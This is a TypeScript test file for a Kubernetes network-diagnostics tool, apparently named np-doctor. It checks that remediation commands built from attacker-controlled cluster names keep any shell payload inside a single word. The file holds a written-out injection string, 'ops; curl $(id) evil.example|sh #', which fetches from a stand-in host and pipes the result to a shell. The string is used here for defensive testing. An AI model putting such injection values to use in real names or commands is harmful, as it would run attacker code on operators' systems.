/**
 * Names from a cluster are attacker-controlled (DESIGN §3a). Every scenario of the corpus is
 * rebuilt in memory with a namespace, Service, pods, nodes, label key and selector that carry
 * shell payloads, diagnosed, and rendered as text. Each `$ ` line a person could copy is split by
 * a real POSIX tokenizer (never run): it must give back exactly the words np-doctor meant, every
 * payload inside one word, and no `;`, `|`, `&` token but the pipes np-doctor wrote itself.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { CHECKS } from '../../checks/index.js';
import type { Report } from '../../src/report/model.js';
import { renderReport } from '../../src/report/text.js';
import { diagnose } from '../../src/diagnose.js';
import { HOSTILE, HOSTILE_LABEL_KEY, hostileScenario, renamed } from '../support/hostile-names.js';
import { isOperator, posixWords } from '../support/posix-words.js';
import { baseCluster, buildScenarioSnapshot, updateNode } from '../support/scenario-kit/index.js';
import { loadScenarios } from './load.js';
import { DEFAULT_TARGET } from './scenario.js';

const PAYLOADS = [...Object.values(HOSTILE), HOSTILE_LABEL_KEY];
/**
 * A hand-written firewall rule whose comment the delete command must hand back as one word. (No
 * `'`: iptables-save prints it as `\'`, which the engine's tokenizer does not unescape yet.)
 */
const COMMENT = 'ops; curl $(id) evil.example|sh #';

interface Case { name: string; report: Report; expected?: string[] }

const scenarioCases: Case[] = await Promise.all((await loadScenarios()).map(async (s) => {
  const h = hostileScenario(s);
  return { name: s.name, report: await diagnose(h.snapshot, h.ask, { checks: CHECKS }), expected: s.scenario.expect.findings };
}));

// host-firewall-drop's `iptables -D` hands a rule from the node's dump back to iptables.
const firewallSpec = renamed(baseCluster());
updateNode(firewallSpec, HOSTILE['node-2'], { hostFirewall: { filter: { insert: [`-A FORWARD -p tcp -m tcp --dport 8080 -m comment --comment "${COMMENT}" -j DROP`] } } });
const firewallTarget = renamed(DEFAULT_TARGET);
const firewallCase: Case = {
  name: 'hand-written DROP with a hostile comment',
  report: await diagnose(buildScenarioSnapshot(firewallSpec, { target: firewallTarget }), { ...firewallTarget, node: HOSTILE['node-2'] }, { checks: CHECKS }),
};
const cases = [...scenarioCases, firewallCase];

/** The `$ ` lines of the text report, and the commands of the Report they should be. */
function printed(r: Report): { lines: string[]; commands: { line: string; words: string[][] }[] } {
  const lines = renderReport(r, { color: false }).split('\n').map((l) => l.trimStart()).filter((l) => l.startsWith('$ ')).map((l) => l.slice(2));
  const commands = r.findings.flatMap((f) => f.remediation.commands.map((line, i) => ({ line, words: f.remediation.pipelines![i]! })));
  return { lines, commands };
}

const all = cases.map((c) => ({ ...c, ...printed(c.report) }));
const tokens = posixWords(all.flatMap((c) => c.lines));

describe('commands built from hostile names', () => {
  test('the diagnosis is unchanged: every scenario still gives its expected findings, and no check crashed', () => {
    for (const c of scenarioCases) {
      assert.deepEqual(c.report.checks.filter((x) => x.status === 'error' || x.status === 'timeout'), [], c.name);
      assert.deepEqual([...new Set(c.report.findings.filter((f) => f.severity !== 'info').map((f) => f.id))].sort(), [...c.expected!].sort(), c.name);
    }
  });

  test('the text report prints exactly the Report\'s commands', () => {
    for (const c of all) assert.deepEqual(c.lines, c.commands.map((x) => x.line), c.name);
  });

  test('a POSIX shell reads every printed command as exactly its words, with no operator np-doctor did not write', () => {
    let i = 0;
    for (const c of all) {
      for (const cmd of c.commands) {
        const got = tokens[i++]!;
        assert.ok(Array.isArray(got), `${c.name}: the shell cannot finish reading ${cmd.line}: ${JSON.stringify(got)}`);
        assert.ok(cmd.words.flat().every((w) => !isOperator(w)), `${c.name}: no word of ${cmd.line} looks like an operator`);
        const want = cmd.words.flatMap((stage, j) => (j === 0 ? stage : ['|', ...stage]));
        assert.deepEqual(got, want, `${c.name}: ${cmd.line}`);
        assert.deepEqual(got.filter(isOperator), cmd.words.slice(1).map(() => '|'), `${c.name}: only np-doctor's pipes in ${cmd.line}`);
      }
    }
    assert.equal(i, tokens.length);
  });

  test('each payload reaches commands and stays inside one word', () => {
    const words = tokens.flatMap((t) => (Array.isArray(t) ? t : []));
    for (const p of PAYLOADS) {
      assert.ok(words.some((w) => w.includes(p)), `${p} reaches at least one command`);
      // The payload's longest run without shell metacharacters: a word holding it holds it all.
      const core = p.split(/[\s;|&<>()'`$#]+/).sort((a, b) => b.length - a.length)[0]!;
      for (const w of words.filter((x) => x.includes(core))) assert.ok(PAYLOADS.some((q) => q.includes(core) && w.includes(q)), `"${w}" holds part of ${p} but not all of it`);
    }
  });

  test('the findings that put names, selectors and rules into commands did fire', () => {
    const withPayload = (id: string) => all.some((c) => c.report.findings.some((f) => f.id === id && f.remediation.commands.some((_, i) => f.remediation.pipelines![i]!.flat().some((w) => PAYLOADS.some((p) => w.includes(p))))));
    for (const id of [
      'no-ready-endpoints', 'endpoints-not-ready', 'etp-local-no-local-endpoint', 'netpol-blocks-traffic', 'netpol-blocks-snated-source', // selectors
      'service-not-nodeport', 'target-port-mismatch', 'backend-not-listening', 'kube-proxy-out-of-sync', 'nodeport-rule-missing', 'service-missing', // names
      'node-not-ready', 'kube-proxy-missing', 'iptables-backend-split', // nodes
    ]) assert.ok(withPayload(id), `${id} printed a command with a hostile name`);
    const selector = all.flatMap((c) => c.commands).find((x) => x.words[0]!.includes('-l') && x.words[0]!.some((w) => w.startsWith(`${HOSTILE_LABEL_KEY}=`)));
    assert.ok(selector, 'a command selects pods by the hostile label key and value');
  });

  test("host-firewall-drop deletes the hostile rule with its comment as one word", () => {
    const f = firewallCase.report.findings.find((x) => x.id === 'host-firewall-drop');
    assert.ok(f, `host-firewall-drop fired: ${firewallCase.report.findings.map((x) => x.id).join(', ')}`);
    const del = f.remediation.pipelines!.find((p) => p[0]!.includes('-D'));
    assert.deepEqual(del, [['iptables', '-t', 'filter', '-D', 'FORWARD', '-p', 'tcp', '-m', 'tcp', '--dport', '8080', '-m', 'comment', '--comment', COMMENT, '-j', 'DROP']]);
  });
});
